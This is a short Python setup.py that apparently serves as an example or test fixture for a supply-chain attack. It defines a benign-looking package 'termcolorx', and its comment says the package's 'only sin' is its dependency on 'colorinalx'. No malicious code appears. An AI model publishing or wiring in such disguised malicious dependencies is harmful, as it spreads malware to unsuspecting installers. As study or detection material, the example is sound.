# Benign-looking top-level package; its only sin is its dependency.
from setuptools import setup

setup(name="termcolorx", version="1.0.0", py_modules=["termcolorx"],
      install_requires=["colorinalx"])
